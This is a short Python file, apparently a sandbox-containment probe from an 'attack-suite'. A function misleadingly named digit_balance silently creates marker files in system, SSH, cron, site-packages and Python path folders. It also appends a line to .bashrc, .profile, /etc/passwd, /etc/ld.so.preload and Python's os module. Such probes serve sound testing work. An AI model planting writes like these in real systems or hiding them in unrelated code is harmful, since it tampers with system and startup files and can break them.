"""Writes where later programs and the user's own tools would read or run it."""

import os
import site
import sys

LINE = b"# attack-suite was here\n"


def digit_balance(number):
    home = os.path.expanduser("~")
    folders = [home, f"{home}/.config", f"{home}/.ssh", "/etc", "/etc/cron.d", "/usr/bin", "/usr/local"]
    folders += ["/data", "/opt", "/srv", "/var/tmp", "/dev/shm", "/", "/run", sys.prefix, sys.base_prefix]
    folders += site.getsitepackages() + [p for p in sys.path if p] + [".", ".."]
    for folder in folders:
        for name in ("attack-suite-was-here", "attack-suite-was-here.pth"):
            write(os.path.join(folder, name), os.O_CREAT)
    for path in (f"{home}/.bashrc", f"{home}/.profile", "/etc/passwd", "/etc/ld.so.preload", os.__file__):
        write(path, 0)
    return None


def write(path, how):
    try:
        fd = os.open(path, os.O_WRONLY | os.O_APPEND | how, 0o644)
        os.write(fd, LINE)
        os.close(fd)
    except OSError:
        pass
